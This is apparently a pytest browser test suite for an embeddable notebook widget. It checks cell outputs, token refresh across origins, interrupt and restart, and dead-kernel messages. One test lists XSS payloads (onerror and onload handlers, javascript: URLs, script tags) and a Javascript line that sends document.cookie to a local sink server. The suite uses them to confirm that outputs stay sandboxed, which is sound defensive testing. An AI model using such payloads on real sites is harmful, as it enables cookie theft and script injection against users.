"""cellbox-embed.js in a real browser: Debian's chromium, driven by run.mjs through
playwright-core, on the landing page the gateway serves at {base_url} and on the embed example
(share/cellbox/examples/embed) served from another origin by its own token helper, with a
user's token the helper mints. run.mjs reports what the pages show as JSON; this file asserts
on it. A screenshot is left in the working directory (embed-failure.png) when a test fails."""

import http.server
import importlib.util
import json
import os
import pathlib
import re
import shutil
import subprocess
import sys
import tempfile
import threading
import time

import pytest

HERE = pathlib.Path(__file__).resolve().parent
ROOT = HERE.parent.parent
EXAMPLE = ROOT / "share" / "cellbox" / "examples" / "embed"
FAILURE_SCREENSHOT = pathlib.Path.cwd() / "embed-failure.png"

_spec = importlib.util.spec_from_file_location("browser_suite", HERE.parent / "browser" / "test_browser.py")
# Only its helpers (npm ci, the node driver's process handling) are used, not its tests.
_browser = importlib.util.module_from_spec(_spec)
_spec.loader.exec_module(_browser)
gateway_conftest = _browser.gateway_conftest
Gateway, ADMIN_TOKEN, free_port = gateway_conftest.Gateway, gateway_conftest.TOKEN, gateway_conftest.free_port
EMBED_JS = gateway_conftest.BUILD_DIR / "share" / "cellbox" / "static" / "embed" / "cellbox-embed.js"


def npm_ci():
    if not pathlib.Path("/usr/bin/chromium").exists():
        pytest.skip("Debian's chromium is not installed (/usr/bin/chromium)")
    gateway_conftest.npm_ci(HERE)


def drive(scenario, url, **options):
    """Runs run.mjs; returns its report. Fails with its error, the steps and a screenshot."""
    screenshot = options.pop("screenshot", None) or str(pathlib.Path(tempfile.mkdtemp(prefix="cellbox-embed-")) / "page.png")
    args = ["node", str(HERE / "run.mjs"), scenario, url, json.dumps(dict(options, screenshot=screenshot))]
    marker = os.urandom(6).hex()
    node = subprocess.Popen(args, stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True,
                            env=dict(os.environ, CELLBOX_BROWSER_TEST=marker), start_new_session=True)
    try:
        out, err = node.communicate(timeout=120)
    except subprocess.TimeoutExpired:
        node.terminate()
        out, err = node.communicate(timeout=10)
    finally:
        _browser.kill_marked("CELLBOX_BROWSER_TEST=" + marker)
    lines = out.strip().splitlines()
    report = json.loads(lines[-1]) if lines else {"unparsed": out}
    print(json.dumps({k: report.get(k) for k in ("steps", "error", "console")}, indent=1))
    if node.returncode != 0:
        if pathlib.Path(screenshot).exists():
            shutil.copy(screenshot, FAILURE_SCREENSHOT)
        pytest.fail(f"run.mjs {scenario} failed: {report.get('error')}\n"
                    f"cells: {json.dumps(report.get('cellsAtFailure'))[:3000]}\n{err[-2000:]}")
    return report


class TokenHelper:
    """The example's token helper: serves share/cellbox/examples/embed on its own port (another
    origin than the gateway) and mints user tokens with `cellbox token`."""

    # Tokens live 61 s: the widget asks for a new one once less than 60 s are left, so every
    # request after the first second goes through getToken() again.
    EXPIRES_IN = 61

    def __init__(self, gateway, port):
        self.port = port
        self.log = tempfile.NamedTemporaryFile("w+", prefix="cellbox-token-helper-", suffix=".log")
        self.process = subprocess.Popen(
            [sys.executable, str(EXAMPLE / "token_helper.py"), "--gateway", gateway.url + "/",
             "--secret", ADMIN_TOKEN, "--cellbox", str(gateway_conftest.CELLBOX), "--port", str(port),
             "--user", "acme-visitor", "--expires-in", str(self.EXPIRES_IN)],
            stdout=self.log, stderr=subprocess.STDOUT, text=True)
        deadline = time.monotonic() + 20
        while "http://127.0.0.1:" not in self.logs():
            assert self.process.poll() is None and time.monotonic() < deadline, \
                f"token helper did not start: {self.logs()}"
            time.sleep(0.1)
        self.url = f"http://127.0.0.1:{port}/"

    def logs(self):
        self.log.seek(0)
        return self.log.read()

    def tokens_minted(self):
        return self.logs().count('"GET /token HTTP/1.1" 200')

    def stop(self):
        gateway_conftest.stop_process(self.process)


class Sink:
    """An HTTP server that only records who reached it: an exfiltration attempt's target."""

    def __init__(self):
        self.hits = []
        sink = self

        class Handler(http.server.BaseHTTPRequestHandler):
            def do_GET(self):
                sink.hits.append(self.path)
                self.send_response(204)
                self.end_headers()

            do_POST = do_GET

            def log_message(self, *args):
                pass

        self.server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        self.url = f"http://127.0.0.1:{self.server.server_address[1]}"
        threading.Thread(target=self.server.serve_forever, daemon=True).start()

    def stop(self):
        self.server.shutdown()


@pytest.fixture(scope="module")
def servers():
    if not EMBED_JS.exists():
        pytest.fail(f"{EMBED_JS} is missing: `make build` bundles it (web/)")
    npm_ci()
    port = free_port()
    gateway = Gateway("--allow-origin", f"http://127.0.0.1:{port}", "--cell-timeout", "30")
    helper = TokenHelper(gateway, port)
    yield gateway, helper
    helper.stop()
    gateway.stop()


# Run after the example's own cells (run.mjs, scenario embed): groups, display updates,
# clear_output, ANSI colours, markdown, JSON and SVG.
EXTRA_CELLS = [
    {"code": "'orders' in globals()", "group": "second"},
    {"code": "'orders' in globals()"},
    {"code": "h = display('first', display_id=True)\nh.update('second')"},
    {"code": "from IPython.display import clear_output\nprint('gone')\nclear_output(wait=True)\nprint('kept')"},
    {"code": "print('\\x1b[31mred\\x1b[0m plain')"},
    {"code": "from IPython.display import JSON, Markdown, SVG, display\ndisplay(Markdown('# Title'))\n"
             "display(JSON({'a': [1, 2]}))\n"
             "display(SVG('<svg xmlns=\"http://www.w3.org/2000/svg\" width=\"10\" height=\"10\"><rect width=\"10\" height=\"10\"/></svg>'))"},
]


def by_id(cells, cell_id):
    matches = [c for c in cells if c["id"] == cell_id]
    assert matches, f"no cell {cell_id}: {[c['id'] for c in cells]}"
    return matches[0]


def test_landing_page_cells_run(servers, request):
    """The printed URL: its cells run; a PNG, a table, a traceback and the timed-out cell's
    explanation appear; the token leaves the address bar for the tab's sessionStorage."""
    gateway, _ = servers
    shot = os.environ.get("CELLBOX_SCREENSHOTS")
    report = drive("landing", f"{gateway.url}/?token={ADMIN_TOKEN}",
                   screenshot=shot and str(pathlib.Path(shot) / "landing.png"))
    cells = report["cells"]
    assert by_id(cells, "cell-state")["streams"] == ["the kernel remembers: 42\n"]
    assert by_id(cells, "cell-plot")["images"] == ["data:image/png;base64,iVBORw0KGgoAAAANSU"]
    table = by_id(cells, "cell-table")
    assert table["tables"] == [6] and "42" in table["text"], table  # header + 5 rows, state kept
    memory = by_id(cells, "cell-memory")
    assert [e["ename"] for e in memory["errors"]] == ["MemoryError"] and "Traceback" in memory["errors"][0]["text"]
    timeout = by_id(cells, "cell-timeout")
    assert [e["ename"] for e in timeout["explained"]] == ["CellTimeoutError"], timeout
    assert "time limit of 2 s" in timeout["text"], timeout
    assert ADMIN_TOKEN not in report["addressBar"] and report["stored"], report["addressBar"]
    assert re.match(r"memory \d", report["limits"]), report["limits"]
    assert re.match(r"1 \(1 \w+\)", report["health"]), report["health"]  # /api/status
    assert re.search(r"\d+ ready \(cellbox-python\)", report["pool"]), report["pool"]  # /api/status
    assert report["console"] == [], report["console"]


def test_embed_page_from_another_origin(servers):
    """The example page on another origin with a user token: shared state, Interrupt,
    Restart, and a connection cut mid-cell that still delivers the finished cell's output."""
    gateway, helper = servers
    shot = os.environ.get("CELLBOX_SCREENSHOTS")
    report = drive("embed", helper.url, extra=EXTRA_CELLS,
                   screenshot=shot and str(pathlib.Path(shot) / "embed-example.png"))
    ran = report["ran"]
    assert by_id(ran, "orders")["streams"] == ["5 days, 92 orders\n"]
    assert by_id(ran, "best")["results"] == ["('fri', 31)"], "the second cell sees the first's variables"
    assert by_id(ran, "chart")["images"] == ["data:image/png;base64,iVBORw0KGgoAAAANSU"]

    extra = report["extraCells"]
    assert report["extra"] == ["ok"] * len(EXTRA_CELLS), report["extra"]
    assert extra[0]["results"] == ["False"], "a named group has a kernel of its own"
    assert extra[1]["results"] == ["True"], "the page's group still has its state"
    assert extra[2]["text"].strip() == "'second'", extra[2]  # update_display_data replaced it
    assert extra[3]["streams"] == ["kept\n"], extra[3]  # clear_output(wait=True)
    assert extra[4]["ansi"] == ["ansi-red:red"] and extra[4]["streams"] == ["red plain\n"], extra[4]
    assert extra[5]["markdown"] == ["Title"] and extra[5]["json"] == [{"a": [1, 2]}], extra[5]
    images = extra[5]["images"]
    assert len(images) == 1 and images[0].startswith("data:image/svg+xml;charset=utf-8,%3Csvg"), images

    interrupted = report["interrupted"]
    assert [e["ename"] for e in interrupted["errors"]] == ["KeyboardInterrupt"], interrupted
    assert report["interruptSeconds"] < 10, "the 30 s sleep was stopped, not waited for"

    after = report["afterRestart"]
    assert after["count"] == "1" and [e["ename"] for e in after["errors"]] == ["NameError"], after

    assert "reconnecting" in report["kernelStatesDuringDrop"], report["kernelStatesDuringDrop"]
    dropped = report["afterDrop"]
    assert dropped["streams"] == ["finished while away\n"] and dropped["results"] == ["'done'"], dropped
    # Short-lived tokens were fetched again through getToken(): for the REST calls
    # (interrupt, restart) and the reconnection seconds later, not only at the start.
    assert helper.tokens_minted() >= 3, helper.logs()[-2000:]
    # The kernels are the helper's user's, not the admin's.
    status, kernels, _ = gateway.request("GET", "/api/kernels")
    assert status == 200 and len(kernels) >= 1
    assert gateway.wait_for_log("acme-visitor")


def test_outputs_cannot_reach_the_page(servers):
    """XSS through outputs: nothing runs in the host page, output frames have opaque
    origins, and no request reaches a sink server."""
    _, helper = servers
    sink = Sink()
    try:
        s = sink.url
        payloads = [
            "from IPython.display import HTML\nHTML('<img src=x onerror=\"window.top.pwned=1\">')",
            "from IPython.display import Javascript\nJavascript('window.top.pwned=2')",
            "from IPython.display import Markdown\nMarkdown('# hi\\n<script>window.top.pwned=3</script>')",
            "from IPython.display import SVG\nSVG('<svg xmlns=\"http://www.w3.org/2000/svg\" onload=\"window.top.pwned=4\">"
            "<script>window.top.pwned=5</script><image href=\"" + s + "/svg.png\"/></svg>')",
            "from IPython.display import HTML\nHTML('<iframe src=\"javascript:window.top.pwned=6\"></iframe>')",
            "from IPython.display import HTML\nHTML('<script>document.body.dataset.pwned=1; window.top.pwned=7</script>')",
            "from IPython.display import HTML\nHTML('<img src=\"" + s + "/img.png\"><div style=\"background:url(" + s + "/bg.png)\">x</div>"
            "<link rel=stylesheet href=\"" + s + "/style.css\"><a href=\"javascript:window.top.pwned=8\" id=a>a</a>')",
            "from IPython.display import Javascript\nJavascript(\"fetch('" + s + "/js?'+document.cookie); new Image().src='" + s + "/img-js'\")",
            "from IPython.display import Markdown\nMarkdown('![x](" + s + "/md.png) [link](javascript:window.top.pwned=9)')",
            "from IPython.display import display\ndisplay({'text/html': '<svg><animate onbegin=\"window.top.pwned=10\" attributeName=x dur=1s>'}, raw=True)",
        ]
        report = drive("xss", helper.url, payloads=payloads)
        cells = report["payloadCells"]
        assert len(cells) == len(payloads) and all(c["count"] for c in cells), cells
        assert not [c for c in cells if c["errors"]], [c["errors"] for c in cells if c["errors"]]
        assert report["pwned"] == ["undefined", None], report["pwned"]
        assert report["frames"], "the Javascript outputs ran in frames"
        assert all(f["sandbox"] == "allow-scripts" and not f["readable"] for f in report["frames"]), report["frames"]
        assert sink.hits == [], f"requests reached the sink: {sink.hits}"
    finally:
        sink.stop()


def test_a_kernel_dead_for_good_says_why():
    """With --no-restart-on-death, a cell that ends its kernel leaves it dead: the widget asks
    the kernel's model after the gateway's KernelDied answer and shows the reason."""
    gateway = Gateway("--no-restart-on-death")
    try:
        report = drive("dead", f"{gateway.url}/?token={ADMIN_TOKEN}")
        fatal = report["fatal"]
        assert fatal["status"].startswith("dead: the kernel exited with code 3"), fatal
        assert "is not restarted" in fatal["status"], fatal
        assert [e["ename"] for e in fatal["explained"]] == ["KernelDied"], fatal
    finally:
        gateway.stop()
